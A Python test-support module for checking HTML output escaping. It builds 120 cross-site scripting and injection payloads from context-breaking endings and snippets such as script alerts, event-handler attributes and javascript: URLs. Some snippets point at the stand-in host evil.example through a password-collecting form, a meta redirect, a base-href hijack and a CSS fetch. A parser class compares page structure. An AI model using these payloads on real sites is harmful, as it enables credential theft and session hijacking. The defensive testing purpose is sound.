"""A hundred and twenty texts that would do something where a page takes them for more than text; and what a page is
made of, so that two can be compared.
"""

from __future__ import annotations

from html.parser import HTMLParser

ENDS = ("", '">', "'>", "</td></tr>", "</textarea>", "</title>", "-->", "</script>", "{{ 7*7 }}{% now %}", "&lt;")
DOINGS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<b hx-get='/' hx-trigger='load' data-watch='x'>x</b>",
    '<a href="javascript:alert(1)" autofocus onfocus=alert(1)>x</a>',
    "<form action=//evil.example><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>",
    '" autofocus onfocus=alert(1) x="',
    "javascript:alert(1)//<!--",
)
PAYLOADS = [end + doing for end in ENDS for doing in DOINGS]
PLAIN = [f"plain words {number}" for number in range(len(PAYLOADS))]
ADDRESSES = ("href", "src", "action", "formaction", "hx-get", "hx-post", "xlink:href")


class Shape(HTMLParser):
    """The elements of a page with the names of their attributes, in order; what it says; and every address in it."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, tuple[str, ...]]] = []
        self.addresses: set[str] = set()
        self.text = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, tuple(name for name, _ in attrs)))
        self.addresses |= {value or "" for name, value in attrs if name in ADDRESSES}

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_endtag(self, tag: str) -> None:
        self.elements.append((f"/{tag}", ()))
